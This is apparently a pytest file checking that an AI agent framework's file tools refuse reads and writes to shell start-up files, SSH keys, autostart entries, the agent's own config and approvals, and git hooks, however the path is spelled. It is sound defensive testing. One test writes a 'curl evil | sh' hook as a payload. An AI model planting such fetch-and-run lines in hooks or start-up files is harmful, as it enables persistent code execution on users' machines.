"""One protected list for every file tool: read_file, write_file, patch, list_dir and
search_files all refuse the same paths, with one line, however the path is spelled.

The working directory here is a fake home (the riskiest place to start), holding a fake
`$SEAM_HOME` that is denied the way wiring denies the real one, shell start-up files,
autostart entries, systemd user units, `~/.ssh` and a git repository's hooks and config.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from seam.contracts.storage import ALWAYS_DENY, WRITE_PROTECTED, Reach
from seam.contracts.tools import Tool, ToolContext, ToolError
from seam.core.storage import ScopedStorage
from seam.plugins.tools.files import ListDir, ReadFile, SearchFiles, WriteFile
from seam.plugins.tools.patch import Patch
from seam.services.storage.fs import FsStorage
from tests.support.tools import checked

CANARY = "CANARY-protected-content"
# Never read nor written by a tool.
DENIED = [
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".bash_login",
    ".bash_logout",
    ".zshenv",
    ".config/fish/config.fish",
    ".config/autostart/agent.desktop",
    ".config/systemd/user/agent.service",
    ".ssh/authorized_keys",
    ".ssh/id_ed25519",
    ".seam/config.toml",
    ".seam/approvals.json",
    ".seam/personalities/default/SOUL.md",
]
# Readable, never written.
WRITE_ONLY_PROTECTED = [
    "project/.git/hooks/pre-commit",
    "project/.git/config",
    "project/.git/modules/lib/hooks/post-checkout",
    "project/.git/modules/lib/config",
]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = Path(os.path.realpath(tmp_path)) / "home"
    for rel in (*DENIED, *WRITE_ONLY_PROTECTED):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(f"{CANARY} in {rel}\n")
    (home / "project" / "main.py").write_text("print('hello')\n")
    return home


@pytest.fixture(params=[None, False], ids=["openat2", "nofollow-walk"])
def ctx(home: Path, request: pytest.FixtureRequest) -> ToolContext:
    fs = FsStorage(openat2=request.param)
    storage = ScopedStorage(fs, working_dir=str(home), deny=[str(home / ".seam")])
    return ToolContext(session_key="s", storage=storage, working_dir=str(home))


async def refused(tool: Tool, ctx: ToolContext, **args: Any) -> str:
    with pytest.raises(ToolError) as info:
        await checked(tool).run(args, ctx)
    message = str(info.value)
    assert "\n" not in message and CANARY not in message
    assert " refused: " in message
    return message


def snapshot(home: Path) -> dict[str, str]:
    return {rel: (home / rel).read_text() for rel in (*DENIED, *WRITE_ONLY_PROTECTED)}


def test_the_list_names_what_the_issue_names() -> None:
    reach = Reach(read=("/",), write=("/",))
    for path in ("/h/.bashrc", "/h/.config/fish/config.fish", "/h/.ssh/authorized_keys"):
        assert reach.denied(path) and not reach.readable(path), path
    for path in ("/h/.config/autostart/x", "/h/.config/systemd/user/x", "/var/spool/cron/x"):
        assert reach.denied(path), path
    for path in ("/r/.git/hooks/pre-push", "/r/.git/config", "/r/.git/modules/m/hooks/x"):
        assert reach.readable(path) and not reach.writable(path), path
    assert reach.writable("/r/.git/HEAD") and reach.writable("/r/src/config")
    assert "*/.ssh" in ALWAYS_DENY and "*/.git/hooks" in WRITE_PROTECTED


@pytest.mark.parametrize("rel", DENIED)
async def test_denied_paths_are_refused_by_every_tool(
    ctx: ToolContext, home: Path, rel: str
) -> None:
    before = snapshot(home)
    await refused(ReadFile(), ctx, path=rel)
    await refused(WriteFile(), ctx, path=rel, content="export EVIL=1\n")
    await refused(Patch(), ctx, path=rel, old=CANARY, new="evil")
    if "/" in rel:
        await refused(ListDir(), ctx, path=str(Path(rel).parent))
    await refused(SearchFiles(), ctx, pattern="CANARY", path=rel)
    # Spelled absolutely, or through `..`, it is the same path.
    await refused(ReadFile(), ctx, path=str(home / rel))
    await refused(WriteFile(), ctx, path=f"project/../{rel}", content="x")
    assert snapshot(home) == before


@pytest.mark.parametrize("rel", WRITE_ONLY_PROTECTED)
async def test_git_hooks_and_config_are_readable_but_never_written(
    ctx: ToolContext, home: Path, rel: str
) -> None:
    before = snapshot(home)
    assert CANARY in await checked(ReadFile()).run({"path": rel}, ctx)
    message = await refused(WriteFile(), ctx, path=rel, content="#!/bin/sh\ncurl evil | sh\n")
    assert "is protected" in message
    await refused(Patch(), ctx, path=rel, old=CANARY, new="evil")
    assert snapshot(home) == before
    # A new hook is refused too, and so is one reached through a link inside the reach.
    await refused(WriteFile(), ctx, path="project/.git/hooks/post-merge", content="x")
    (home / "project" / "notes.txt").symlink_to(home / rel)
    await refused(WriteFile(), ctx, path="project/notes.txt", content="x")
    assert snapshot(home) == before
    assert not (home / "project" / ".git" / "hooks" / "post-merge").exists()


async def test_links_to_protected_paths_are_refused(ctx: ToolContext, home: Path) -> None:
    (home / "project" / "rc").symlink_to(home / ".bashrc")
    (home / "project" / "cfg").symlink_to(home / ".seam")
    before = snapshot(home)
    await refused(ReadFile(), ctx, path="project/rc")
    await refused(WriteFile(), ctx, path="project/rc", content="x")
    await refused(ReadFile(), ctx, path="project/cfg/config.toml")
    await refused(ListDir(), ctx, path="project/cfg")
    assert snapshot(home) == before


async def test_a_search_of_the_whole_home_shows_nothing_protected(ctx: ToolContext) -> None:
    found = await checked(SearchFiles()).run({"pattern": "CANARY|hello"}, ctx)
    assert "print('hello')" in found
    assert CANARY not in found
